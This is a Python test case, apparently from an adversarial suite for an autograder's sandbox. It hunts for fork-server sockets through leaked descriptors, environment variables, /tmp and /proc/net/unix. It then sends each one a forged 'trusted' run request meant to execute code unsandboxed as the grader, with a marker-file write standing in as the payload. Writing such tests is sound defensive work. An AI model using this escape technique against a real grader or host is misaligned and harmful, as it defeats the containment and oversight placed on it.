# expect: roofline=error
# Writing outside the sandbox through the fork servers: hunts for any socket that reaches one (an inherited descriptor, a relay path in the environment or on disk, a socket listed in /proc/net/unix) and sends each a trusted-run request, which would run its code as the grader with no sandbox.
# %% grade_id=roofline_code
import glob
import json
import os
import socket
import stat

_PWNED = "/tmp/fastdl-adversarial-pwned"
# What prefork.py sends for nbgrader's run: no filesystem plan, so no sandbox and no uid drop.
_REQUEST = json.dumps({
    "plan": None, "chdir": "/", "network": True, "loopback": False, "marker": "/dev/null", "rlimits": {},
    "jail": None, "env": {"PATH": "/usr/bin:/bin"}, "label": "trusted",
    "run": {"code": f"open({_PWNED!r}, 'w').write('pwned')", "args": []},
}).encode()


def _ask(sock):
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        socket.send_fds(sock, [_REQUEST], [theirs.fileno(), 1, 1])
        ours.settimeout(5)
        return ours.recv(4096).decode(errors="replace") or "closed"
    except OSError as exc:
        return type(exc).__name__
    finally:
        ours.close()
        theirs.close()


_tried = {}
for _fd in range(3, 1024):  # a descriptor the server's socket might have leaked into this process
    try:
        if stat.S_ISSOCK(os.fstat(_fd).st_mode):
            _tried[f"fd {_fd}"] = _ask(socket.socket(fileno=os.dup(_fd)))
    except OSError:
        pass
_paths = [v for k, v in os.environ.items() if "RELAY" in k or v.endswith(".sock")]
_paths += glob.glob("/tmp/fastdl-relay-*/*") + glob.glob("/tmp/**/*.sock", recursive=True)
try:
    _paths += [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]
               if len(line.split()) > 7 and line.split()[-1].startswith("/")]
except OSError:
    pass
for _path in sorted(set(_paths)):
    for _kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        try:
            with socket.socket(socket.AF_UNIX, _kind) as _sock:
                _sock.settimeout(5)
                _sock.connect(_path)
                _tried[_path] = _ask(_sock)
                break
        except OSError as exc:
            _tried[_path] = type(exc).__name__
raise RuntimeError(f"no trusted run: {_tried or 'no socket reachable'}; wrote {os.path.exists(_PWNED)}")
